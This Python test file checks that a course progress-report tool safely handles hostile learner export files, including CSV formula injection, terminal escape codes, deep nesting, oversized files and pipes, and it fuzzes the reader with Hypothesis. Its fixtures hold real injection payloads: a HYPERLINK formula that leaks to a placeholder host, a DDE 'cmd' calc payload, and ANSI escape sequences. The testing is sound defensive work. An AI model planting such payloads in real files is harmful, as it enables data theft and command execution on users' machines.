"""The progress report treats learners' files as untrusted: formulas neutralised in the CSV,
control characters escaped in the terminal, hostile files skipped with a reason, never a crash.
Hand-made cases first, then property-based tests (Hypothesis) of the reader."""

import csv
import io
import json
import os
import subprocess
import sys
import tempfile
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from exercises.core import export, progress, report

ROOT = Path(__file__).resolve().parents[1]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
UNSAFE = {"Cc", "Cf", "Cs", "Zl", "Zp"}
PROPERTY = settings(max_examples=40, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(autouse=True)
def progress_file(tmp_path, monkeypatch):
    monkeypatch.setenv("COURSE_PROGRESS_FILE", str(tmp_path / "progress.json"))
    progress.notices()


@pytest.fixture
def folder(tmp_path):
    path = tmp_path / "collected"
    path.mkdir()
    return path


def sealed(name, exercises=None, learner_id="0123456789ab", now="2026-03-01T10:00:00Z"):
    """An export as the course writes it, for a learner of the given (untrusted) name."""
    record = {"format": progress.FORMAT, "version": progress.VERSION, "updated": "2026-03-01T11:00:00",
              "exercises": exercises or {"row-mean": {"attempts": 1, "passed": True}},
              "questions": {}, "learner": {"name": name, "id": learner_id}}
    data = export.seal(record, now=now)
    data["learner"]["name"] = name  # exactly as typed: seal() tidies spaces, a hand-made file need not
    data["export"]["checksum"] = export.checksum(data)
    return json.dumps(data)


def cells(csv_text):
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def unsafe_characters(text):
    return [ch for ch in text if unicodedata.category(ch) in UNSAFE and ch != "\n"]


def assert_safe(rep):
    """No CSV cell starts a formula or holds a control character; no summary line does either."""
    text = report.csv_text(rep)
    for cell in cells(text):
        assert not cell.startswith(FORMULA_STARTS), cell
        assert unsafe_characters(cell) == [], cell
    assert unsafe_characters(report.summary_text(rep)) == []


# ---------------------------------------------------------------- the hand-made files

def test_a_formula_name_is_shown_as_text_in_every_cell(folder):
    name = '=HYPERLINK("http://example.invalid/?leak","Alice")'
    (folder / "alice.json").write_text(sealed(name))
    (folder / "+plus.json").write_text(sealed("@SUM(A1:A9)", learner_id="bbbbbbbbbbbb"))
    rep = report.build(folder)
    assert len(rep.exports) == 2 and rep.skipped == []
    rows = list(csv.DictReader(io.StringIO(report.csv_text(rep))))
    assert {r["learner"] for r in rows} == {"'" + name, "'@SUM(A1:A9)"}
    assert {r["file"] for r in rows} == {"alice.json", "'+plus.json"}
    assert_safe(rep)
    assert name in report.summary_text(rep)  # the terminal shows it as typed: it runs nothing there


def test_escape_codes_in_a_name_never_reach_the_terminal(folder):
    name = "Bob\x1b[31m red\x1b]0;new title\x07\u202eevil\x9b2J"
    (folder / "bob.json").write_text(sealed(name))
    (folder / "\x1b[2Jname.json").write_text(sealed("Carol", learner_id="cccccccccccc"))
    rep = report.build(folder)
    assert len(rep.exports) == 2
    summary = report.summary_text(rep)
    assert "\x1b" not in summary and "\u202e" not in summary and "\x9b" not in summary
    assert "Bob\\x1b[31m red" in summary and "\\u202eevil" in summary
    assert "\\x1b[2Jname.json" in report.csv_text(rep)
    assert_safe(rep)


def test_nested_brackets_are_skipped_and_the_report_goes_on(folder):
    (folder / "nested.json").write_text("[" * 400_000)
    (folder / "nested-object.json").write_text('{"a":' * 100_000)
    (folder / "ada.json").write_text(sealed("Ada"))
    rep = report.build(folder)
    reasons = dict(rep.skipped)
    assert [e.learner for e in rep.exports] == ["Ada"]
    assert reasons["nested.json"] == "malformed: nested too deeply to be a progress export"
    assert "nested too deeply" in reasons["nested-object.json"]


def test_a_50_mb_file_is_skipped_by_its_size_without_being_read(folder):
    big = folder / "huge.json"
    with open(big, "wb") as file:  # a sparse file: 50 MB on paper, nothing written to disk
        file.write(b'{"format": "transformer-course-progress", "exercises": {')
        file.truncate(50_000_000)
    (folder / "ada.json").write_text(sealed("Ada"))
    opened = []
    real_open = open

    def watching_open(path, *args, **kwargs):
        opened.append(Path(path).name)
        return real_open(path, *args, **kwargs)

    started = time.perf_counter()
    report.open = watching_open  # the report's own file reads, seen from here
    try:
        rep = report.build(folder)
    finally:
        del report.open
    assert time.perf_counter() - started < 5
    assert "huge.json" not in opened and "ada.json" in opened
    reason = dict(rep.skipped)["huge.json"]
    assert reason.startswith("too large to be a progress export (50.0 MB")
    assert "1.0 MB" in reason
    assert [e.learner for e in rep.exports] == ["Ada"]


def test_a_pipe_in_the_folder_is_skipped_not_waited_on(folder, tmp_path):
    os.mkfifo(folder / "pipe.json")
    (folder / "ada.json").write_text(sealed("Ada"))
    done = subprocess.run([sys.executable, "-m", "exercises", "report", str(folder), "--csv",
                           str(tmp_path / "out.csv")], cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)},
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "pipe.json: not a regular file" in done.stdout
    assert "1 learner, 1 file skipped" in done.stdout


@pytest.mark.parametrize("content, reason", [
    (b"", "empty: the file holds nothing"),
    (b"  \n\t ", "empty: the file holds nothing"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {"row-mean":'
     b' {"attempts": NaN}}, "questions": {}}', "not valid JSON"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {"row-mean":'
     b' {"attempts": 1e400}}, "questions": {}}', "wrong kind"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {"row-mean":'
     b' {"passed": "yes"}}, "questions": {}}', "wrong kind"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {},'
     b' "questions": {}, "test_out": []}', "wrong kind in its 'test_out' section"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {"row-mean":'
     b' {"attempts": -3}}, "questions": {}}', "wrong kind"),
])
def test_hostile_values_are_skipped_with_the_reason(folder, content, reason):
    (folder / "odd.json").write_bytes(content)
    (folder / "ada.json").write_text(sealed("Ada"))
    rep = report.build(folder)
    assert [e.learner for e in rep.exports] == ["Ada"]
    assert reason in dict(rep.skipped)["odd.json"]


def test_an_overlong_id_or_date_is_cut_and_escaped(folder):
    data = json.loads(sealed("", learner_id="x" * 10_000 + "\x1b"))
    data["export"]["exported_at"] = "=cmd|' /C calc'!A0" + "\x1b" * 50
    data["export"]["checksum"] = export.checksum(data)
    (folder / "anon.json").write_text(json.dumps(data))
    rep = report.build(folder)
    (item,) = rep.exports
    assert item.learner == "anonymous-" + "x" * 64
    assert "\x1b" not in item.exported_at and len(item.exported_at) < 100
    assert_safe(rep)


def test_the_report_never_replaces_a_csv_without_force(folder, tmp_path):
    (folder / "ada.json").write_text(sealed("Ada"))
    out = tmp_path / "class.csv"
    out.write_text("my own notes\n")
    run = [sys.executable, "-m", "exercises", "report", str(folder), "--csv", str(out)]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(run, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert "already exists" in done.stderr and "--force" in done.stderr
    assert out.read_text() == "my own notes\n"
    done = subprocess.run(run + ["--force"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert out.read_text().startswith(",".join(report.CSV_COLUMNS))


def test_a_terminal_that_cannot_show_a_name_gets_an_escape_not_a_crash(folder, tmp_path):
    (folder / "zoe.json").write_text(sealed("Zoë 日本"))
    done = subprocess.run([sys.executable, "-m", "exercises", "report", str(folder), "--csv", "-"],
                          cwd=tmp_path, capture_output=True,
                          env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONIOENCODING": "ascii"}, timeout=60)
    assert done.returncode == 0, done.stderr
    assert b"Zo\\xeb \\u65e5\\u672c" in done.stderr


# ---------------------------------------------------------------- properties (Hypothesis)

def run_report(files):
    """Write files ({name: bytes}) into a fresh folder; build the report, its CSV and summary."""
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        for name, data in files.items():
            (folder / name).write_bytes(data)
        rep = report.build(folder)
        report.csv_text(rep)
        report.summary_text(rep)
        return rep


def every_file_is_kept_or_skipped(rep, names):
    kept = [e.path.name for e in rep.exports]
    skipped = [name for name, _reason in rep.skipped]
    assert sorted(kept + skipped) == sorted(names)
    assert all(reason for _name, reason in rep.skipped)


@PROPERTY
@given(st.lists(st.binary(max_size=300), min_size=1, max_size=4))
def test_arbitrary_bytes_never_stop_the_report(blobs):
    files = {f"file{i}.json": blob for i, blob in enumerate(blobs)}
    rep = run_report(files)
    every_file_is_kept_or_skipped(rep, files)
    assert_safe(rep)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers(min_value=-10**6, max_value=10**6)
    | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=20)
ENTRY_KEYS = st.sampled_from(["attempts", "hints", "passed", "passed_after_solution", "solution_revealed",
                              "checks", "misses", "tries", "answer", "correct", "revealed", "passed_at"])
RECORDS = st.fixed_dictionaries({
    "format": st.just(progress.FORMAT), "version": st.sampled_from([1, 2, "1", None]),
    "exercises": st.dictionaries(st.sampled_from(["row-mean", "layer-norm", "x"]),
                                 st.dictionaries(ENTRY_KEYS, JSON, max_size=4) | JSON, max_size=3),
    "questions": st.dictionaries(st.sampled_from(["start-predict-softmax", "q"]),
                                 st.dictionaries(ENTRY_KEYS, JSON, max_size=4), max_size=2) | JSON,
    "test_out": st.dictionaries(st.sampled_from(["01_positional_encoding", "zz"]),
                                st.dictionaries(ENTRY_KEYS, JSON, max_size=3) | JSON, max_size=2) | JSON,
    "learner": st.fixed_dictionaries({"name": JSON, "id": JSON}) | JSON,
    "export": st.fixed_dictionaries({"course": JSON, "exported_at": JSON, "checksum": JSON}) | JSON,
})


@PROPERTY
@given(st.lists(JSON | RECORDS, min_size=1, max_size=3))
def test_arbitrary_json_values_never_stop_the_report(values):
    files = {f"v{i}.json": json.dumps(value).encode() for i, value in enumerate(values)}
    rep = run_report(files)
    every_file_is_kept_or_skipped(rep, files)
    assert_safe(rep)


HOSTILE = ["=", "+", "-", "@", "\t", "\r", "\n", "\x1b", "\x9b", "\u202e", "\u2028", "\x00", "\ud800"]
NAMES = st.builds(
    lambda head, body: head + body,
    st.sampled_from(["", " ", "=", "+", "-", "@", "\t", "\r", " =", "\t@", "\x1b[31m", "\u202e"]),
    st.text(st.sampled_from(HOSTILE) | st.characters(codec="utf-8"), max_size=30))


@PROPERTY
@given(st.lists(NAMES, min_size=1, max_size=4))
def test_valid_exports_with_any_name_are_all_kept_and_safe(names):
    files = {f"e{i}.json": sealed(name, learner_id=f"{i:012d}").encode() for i, name in enumerate(names)}
    rep = run_report(files)
    every_file_is_kept_or_skipped(rep, files)
    distinct = {export.clean_name(n).casefold() or f"id{i}" for i, n in enumerate(names)}
    assert len(rep.exports) == len(distinct)  # only the same learner twice is ever dropped
    assert all("duplicate" in reason for _name, reason in rep.skipped)
    assert_safe(rep)
